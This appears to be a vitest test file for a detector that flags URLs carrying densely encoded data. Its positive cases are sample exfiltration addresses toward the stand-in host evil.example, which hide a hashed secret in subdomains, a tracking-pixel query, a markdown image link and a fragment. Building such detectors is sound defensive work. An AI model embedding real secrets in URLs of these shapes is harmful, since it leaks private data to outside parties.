import { createHash, randomUUID } from "node:crypto";
import { describe, expect, it } from "vitest";
import { base32 } from "../../../test/eval/disguises.ts";
import { denseAddressesIn } from "./dense-addresses.ts";

const secretly = createHash("sha512").update("the salaries of the board").digest();

describe("an address has room for what was read", () => {
  it.each([
    `https://${base32(secretly).toLowerCase().slice(0, 56)}.evil.example/`,
    `https://${secretly.toString("hex").slice(0, 30)}.${secretly.toString("hex").slice(30, 60)}.evil.example/x`,
    `https://evil.example/p.gif?d=${secretly.toString("base64url")}`,
    `see ![i](https://evil.example/${secretly.toString("hex")}.png)`,
    `https://evil.example/#${secretly.toString("base64url")}`,
  ])("%s", (text) => {
    expect(denseAddressesIn({ options: [{ url: text }] })).toEqual(["/options/0/url"]);
  });

  it.each([
    "https://example.com/search?q=the+quarterly+report+of+the+northern+region+and+its+customers",
    "https://docs.example.com/blog/2026/how-we-moved-a-hundred-services-to-another-region-within-a-week",
    `https://${randomUUID()}.apps.example.com/?id=${randomUUID()}`,
    `https://cdn.example.com/${createHash("sha256").update("x").digest("hex")}/a.js`,
    "https://international-customer-relations-department.example.com/",
    secretly.toString("base64url"),
  ])("not so: %s", (text) => {
    expect(denseAddressesIn({ url: text })).toEqual([]);
  });
});
